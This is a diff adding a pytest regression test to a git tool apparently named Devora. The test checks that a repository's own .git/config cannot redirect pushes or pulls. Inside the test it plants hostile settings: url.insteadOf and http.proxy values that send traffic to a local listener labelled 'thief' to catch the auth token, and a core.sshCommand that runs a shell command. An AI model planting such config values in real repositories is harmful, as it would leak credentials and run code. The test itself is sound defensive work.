@@ -3,6 +3,7 @@ server: divergence and a dirty tree never lose work; a push is never forced."""
 
 from __future__ import annotations
 
+import contextlib
 from pathlib import Path
 
 import pytest
@@ -104,3 +105,48 @@ def test_cli_clone_pull_push_and_pull_request(run_cli, monkeypatch, tmp_path: Pa
                 "Add b"
     finally:
         github.stop()
+
+
+def test_the_repositorys_own_config_never_decides_how_devora_reaches_the_remote(
+        origin, tmp_path: Path) -> None:
+    """Code that ran in the project can write .git/config (Landlock alone leaves .git
+    writable; a folder may come with its .git). Its core.sshCommand ran as the person on
+    pull and push, and its insteadOf / http.proxy sent the token to another host."""
+    import socket
+    import threading
+
+    server, _upstream = origin
+    mine = clone(server.url("shop.git"), tmp_path / "mine", token=TOKEN)
+    heard: list[bytes] = []
+    thief = socket.create_server(("127.0.0.1", 0))
+    thief.settimeout(5)
+
+    def listen() -> None:
+        with contextlib.suppress(OSError):
+            while True:
+                conn, _ = thief.accept()
+                conn.settimeout(2)
+                with conn:
+                    heard.append(conn.recv(4096))
+                    conn.sendall(b"HTTP/1.0 401 Who\r\nWWW-Authenticate: Basic realm=x\r\n"
+                                 b"Content-Length: 0\r\n\r\n")
+
+    threading.Thread(target=listen, daemon=True).start()
+    evil = f"http://127.0.0.1:{thief.getsockname()[1]}/"
+    git(mine, "config", f"url.{evil}.insteadOf", server.url(""))
+    git(mine, "config", "http.proxy", evil)
+    git(mine, "-c", "user.name=Me", "-c", "user.email=m@x", "commit", "-q", "--allow-empty",
+        "-m", "mine")
+    with contextlib.suppress(DevoraError):
+        push(mine, "devora/feature", token=TOKEN)
+    thief.close()
+    assert not any(b"authorization:" in h.lower() for h in heard), heard  # the token
+    assert git(_upstream, "log", "-1", "--format=%s", "devora/feature") == "mine"
+
+    proof = tmp_path / "ran.txt"
+    git(mine, "remote", "set-url", "origin", "ssh://git@127.0.0.1:1/shop.git")
+    git(mine, "config", "core.sshCommand", f"sh -c 'echo ssh >> {proof}; exit 1' --")
+    for act in (lambda: pull(mine, token=TOKEN), lambda: push(mine, "x", token=TOKEN)):
+        with pytest.raises(DevoraError, match="not an https:// address"):
+            act()
+    assert not proof.exists()
